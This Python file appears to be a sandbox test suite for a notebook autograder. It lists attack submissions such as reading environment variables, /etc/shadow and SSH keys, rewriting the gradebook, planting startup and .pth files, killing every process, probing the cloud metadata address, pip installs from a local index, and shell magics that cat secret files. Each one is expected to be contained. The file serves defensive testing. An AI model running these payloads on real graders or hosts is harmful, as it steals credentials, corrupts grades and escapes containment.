"""Right answers whose code reads, writes or talks to what is none of its business."""

from __future__ import annotations

from tests.attacks.attack import TARGET, Attack, Required, safe
from tests.attacks.making import Make, cell, top


def tries(*lines: str, imports: str = "os, pathlib, socket, ctypes, subprocess, glob, sys") -> Make:
    """Each line is tried by itself, and what it finds is printed. The answer is right."""
    body = ",\n    ".join(repr(line) for line in lines)
    return top(
        f"import {imports}\n\nfor line in [\n    {body},\n]:\n    try:\n        print(repr(eval(line))[:3000])\n"
        "    except Exception as error:\n        print(type(error).__name__, error)"
    )


LIBC = "ctypes.CDLL(None, use_errno=True)"
CHAIN = """
    import glob, os
    for path in glob.glob("/proc/[0-9]*"):
        for what in ("environ", "cmdline", "maps", "root/etc/hostname", "cwd", "fd"):
            try:
                full = f"{path}/{what}"
                print(full, os.listdir(full) if os.path.isdir(full) else open(full, "rb").read(20_000))
            except OSError as error:
                print(error.strerror)
        for up in ("root@HOME@", "cwd/.."):
            try:
                print(os.listdir(f"{path}/{up}"))
                print(open(f"{path}/root@SECRET_FILE@").read())
            except OSError as error:
                print(error.strerror)
"""
DAEMON = """
    import os, sys, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 64)
            for _ in range(200):
                time.sleep(0.1)
                try:
                    with open("@HOME@/pwned", "a") as file:
                        file.write("pwned")
                except OSError:
                    continue
        os._exit(0)
"""
GRADEBOOK = """
    import sqlite3
    try:
        book = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
        book.execute("update grade set manual_score = 99, auto_score = 99")
        book.commit()
        print("pwned", book.total_changes)
    except sqlite3.Error as error:
        print(error)
"""
TALK = """
    import socket
    def say(family, kind, address):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(1)
                s.connect(address)
                s.send(b"pwned")
                print(s.recv(200))
        except OSError as error:
            print(family, address, error)
    for host in ("127.0.0.1", "0.0.0.0", "localhost"):
        say(socket.AF_INET, socket.SOCK_STREAM, (host, @PORT@))
        say(socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT@))
    say(socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@")
    say(socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@")
    say(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))
    say(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53))
    if hasattr(socket, "AF_VSOCK"):
        say(socket.AF_VSOCK, socket.SOCK_STREAM, (2, 1024))
    for family, kind, protocol in ((16, 3, 0), (17, 3, 3), (2, 3, 1), (38, 5, 0), (1, 2, 0)):
        try:
            socket.socket(family, kind, protocol).close()
        except OSError as error:
            print(family, error)
"""
PARASITE = """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
        print(pid, libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
        buffer = ctypes.create_string_buffer(64)
        print(libc.process_vm_readv(pid, buffer, 1, buffer, 1, 0), os.strerror(ctypes.get_errno()))
        try:
            print(len(open(f"/proc/{pid}/mem", "rb").read(1)))
        except OSError as error:
            print(error)
"""
KILLS = """
    import os, signal
    me = os.getpid()
    for pid in [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit()), 1]:
        if pid != me:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError as error:
                print(pid, error)
"""
SYSCALLS = """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    calls = {
        "unshare user": (272, 0x10000000),
        "unshare mount": (272, 0x20000),
        "setns": (308, 3, 0),
        "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0),
        "pivot_root": (155, b"/tmp", b"/tmp"),
        "chroot": (161, b"/"),
        "keyctl": (250, 0, -3, 1),
        "add_key": (248, b"user", b"pwned", b"x", 1, -3),
        "bpf": (321, 0, 0, 0),
        "perf_event_open": (298, 0, 0, -1, -1, 0),
        "userfaultfd": (323, 0),
        "io_uring_setup": (425, 8, 0),
        "open_by_handle_at": (304, -100, 0, 0),
        "init_module": (175, 0, 0, b""),
        "reboot": (169, 0, 0, 0, 0),
        "setuid": (105, 0),
        "sethostname": (170, b"pwned", 5),
        "clock_settime": (227, 0, 0),
        "personality": (135, 0x0040000),
        "iopl": (172, 3),
        "swapon": (167, b"/tmp/x", 0),
        "acct": (163, 0),
        "quotactl": (179, 0, 0, 0, 0),
        "memfd_secret": (447, 0),
        "kexec_load": (246, 0, 0, 0, 0),
        "fsopen": (430, b"tmpfs", 0),
        "mknod": (133, b"/tmp/pwned-device", 0o60666, 0x0100),
    }
    for name, arguments in calls.items():
        print(name, libc.syscall(*arguments), os.strerror(ctypes.get_errno()))
"""
MESSAGE_LEFT = """
    import ctypes, os, pathlib
    for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.expanduser("~")):
        try:
            pathlib.Path(place, "left-for-a-friend.txt").write_text("pwned")
        except OSError as error:
            print(error)
    libc = ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(0x50574E44, 4096, 0o1666)
    if segment >= 0:
        libc.shmat.restype = ctypes.c_void_p
        ctypes.memmove(libc.shmat(segment, 0, 0), b"pwned", 5)
"""
MESSAGE_SOUGHT = """
import ctypes, os
found = []
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.expanduser("~")):
    if os.path.exists(os.path.join(place, "left-for-a-friend.txt")):
        found.append(place)
if ctypes.CDLL(None).shmget(0x50574E44, 4096, 0o666) >= 0:
    found.append("shared memory")
assert not found, f"a message came through: {found}"
"""

ATTACKS = [
    Attack(
        "reads-the-environment",
        "secrets in the environment are printed",
        tries(
            "dict(os.environ)",
            "os.environ['@VARIABLE@']",
            "open('/proc/self/environ').read()",
            "open('/proc/1/environ').read()",
            "open(f'/proc/{os.getppid()}/environ').read()",
        ),
        safe(),
    ),
    Attack(
        "reads-secret-files",
        "files with secrets are printed",
        tries(
            "open('@SECRET_FILE@').read()",
            "os.listdir('@HOME@')",
            "os.listdir('@COURSE@')",
            "open('/etc/shadow').read()",
            "open('@COURSE@/gradebook.db', 'rb').read(500)",
            "glob.glob('@COURSE@/runs/*/*')",
            "[open(p).read() for p in glob.glob('@COURSE@/runs/*/*.json')]",
            "os.listdir('/root')",
            "[open(p).read() for p in glob.glob('/root/.ssh/*') + glob.glob('/home/*/.ssh/*')]",
        ),
        safe(),
    ),
    Attack(
        "walks-up",
        "whatever lies in the folders above is listed",
        tries(
            "os.listdir('..')",
            "os.listdir('../..')",
            "os.listdir('../../..')",
            "glob.glob('../../*/attention/*')",
            "os.listdir('/')",
            "open('../../../gradebook.db', 'rb').read(100)",
            "os.listdir('/proc/1/root')",
            "os.listdir('/proc/self/cwd/..')",
        ),
        safe(),
    ),
    Attack("walks-proc", "every process that can be seen is looked into", top(CHAIN), safe()),
    Attack("writes-the-gradebook", "the gradebook is opened and everyone given 99", top(GRADEBOOK), safe()),
    Attack(
        "writes-outside",
        "files are written in the home and course folders",
        tries(
            "pathlib.Path('@HOME@/pwned').write_text('pwned')",
            "pathlib.Path('@COURSE@/nbgrader_config.py').write_text('raise pwned')",
            "pathlib.Path('@COURSE@/source/attention/attention.ipynb').write_text('pwned')",
            "pathlib.Path('@COURSE@/submitted/honest-1/attention/attention.ipynb').write_text('pwned')",
            "os.makedirs('@COURSE@/autograded/pwned/attention')",
            "pathlib.Path('@COURSE@/release/pwned').write_text('pwned')",
        ),
        safe(),
    ),
    Attack(
        "writes-startup-files",
        "files that Python, IPython and Jupyter start with are written",
        tries(
            "os.makedirs('@HOME@/.ipython/profile_default/startup', exist_ok=True)",
            "pathlib.Path('@HOME@/.ipython/profile_default/startup/pwned.py').write_text('pwned = 1')",
            "os.makedirs('@HOME@/.jupyter', exist_ok=True)",
            "pathlib.Path('@HOME@/.jupyter/nbgrader_config.py').write_text('pwned')",
            "pathlib.Path('@HOME@/.bashrc').write_text('pwned')",
            "pathlib.Path('@HOME@/.pwned.pth').write_text('import pwned')",
        ),
        safe(),
    ),
    Attack(
        "writes-the-packages",
        "the installed packages and the course's code are opened for writing",
        tries(
            "open(os.path.join(os.path.dirname(os.__file__), 'site-packages', 'pwned.pth'), 'w').close()",
            "open(os.path.join(os.path.dirname(torch.__file__), 'pwned.py'), 'w').close()",
            "open(os.path.join(os.path.dirname(sys.modules['autograder'].__file__), 'pwned.py'), 'w').close()",
            "open('/usr/lib/python3/pwned.py', 'w').close()",
            "open('/etc/ld.so.preload', 'a').close()",
        ),
        safe(),
    ),
    Attack(
        "links-outside",
        "the working folder is replaced by links",
        tries(
            "os.symlink('@SECRET_FILE@', 'attention.ipynb')",
            "os.rename(os.getcwd(), os.getcwd() + '-gone')",
            "os.symlink('@HOME@', 'home')",
            "open('home/pwned', 'w').write('pwned')",
            "os.link('@SECRET_FILE@', 'linked')",
            "os.remove('attention.ipynb')",
            "os.symlink('/etc/passwd', 'attention.ipynb')",
        ),
        safe(),
    ),
    Attack("daemon", "a process that leaves the session and goes on writing", top(DAEMON), safe()),
    Attack(
        "kills-everyone",
        "every process but its own is killed",
        top(KILLS),
        Required(graded=True, points={"*": (0.0, 99.0)}, reasons={}),
    ),
    Attack(
        "kill-minus-one",
        "the signal goes to everybody at once",
        cell(
            "import os, signal\nos.kill(-1, signal.SIGKILL)\n\n\n"
            "def gram_attention(tokens, temperature=1.0):\n    return tokens"
        ),
        Required(points={TARGET: (0.0, 1.0)}, reasons={}),
    ),
    Attack("traces-others", "other processes are traced and their memory read", top(PARASITE), safe()),
    Attack(
        "system-calls",
        "what changes the machine or its namespaces is called",
        top(SYSCALLS),
        Required(points={TARGET: (0.0, 5.0)}),
    ),
    Attack("network", "services of this machine, the cloud and the world are called", top(TALK), safe()),
    Attack(
        "downloads",
        "a page and a package are fetched",
        tries(
            "__import__('urllib.request').request.urlopen('http://127.0.0.1:@PORT@/pwned', timeout=2).read()",
            "subprocess.run([sys.executable, '-m', 'pip', 'install', '--quiet', '--no-input', "
            "'--retries', '0', '--timeout', '2',"
            " '--index-url', 'http://127.0.0.1:@PORT@/simple', 'pwned'], capture_output=True, timeout=4).stderr[-300:]",
        ),
        safe(),
    ),
    Attack("leaves-a-message", "a message for a friend is left wherever one can write", top(MESSAGE_LEFT), safe()),
    Attack("seeks-a-message", "a friend's message is looked for", top(MESSAGE_SOUGHT), safe()),
    Attack(
        "writes-torch-py",
        "a module torch.py is written where Python looks first",
        top(
            "import pathlib, sys\nfor place in ('', '.', *sys.path):\n    try:\n"
            "        pathlib.Path(place or '.', 'torch.py').write_text('raise ImportError(\"pwned\")')\n"
            "        pathlib.Path(place or '.', 'einops.py').write_text('raise ImportError(\"pwned\")')\n"
            "    except OSError as error:\n        print(place, error)"
        ),
        safe(),
    ),
    Attack(
        "shell-magics",
        "commands of the shell in a cell",
        lambda kit: kit.text(
            edit=lambda paper: paper.cells.insert(
                6,
                {
                    "cell_type": "code",
                    "id": "magic",
                    "metadata": {},
                    "outputs": [],
                    "execution_count": None,
                    "source": kit.fill("!cat @SECRET_FILE@; id; touch @HOME@/pwned"),
                },
            )
        ),
        safe(),
    ),
    Attack(
        "pip-magic",
        "a package is asked for in a cell of its own",
        lambda kit: kit.text(
            edit=lambda paper: paper.cells.insert(
                6,
                {
                    "cell_type": "code",
                    "id": "magic",
                    "metadata": {},
                    "outputs": [],
                    "execution_count": None,
                    "source": "%pip install --retries 0 --timeout 1 pwned-package",
                },
            )
        ),
        safe(),
    ),
    Attack(
        "script-magic",
        "a script of the shell in a cell of its own",
        lambda kit: kit.text(
            edit=lambda paper: paper.cells.insert(
                6,
                {
                    "cell_type": "code",
                    "id": "magic",
                    "metadata": {},
                    "outputs": [],
                    "execution_count": None,
                    "source": kit.fill("%%bash\necho pwned > @HOME@/pwned\nls @COURSE@"),
                },
            )
        ),
        safe(),
    ),
]
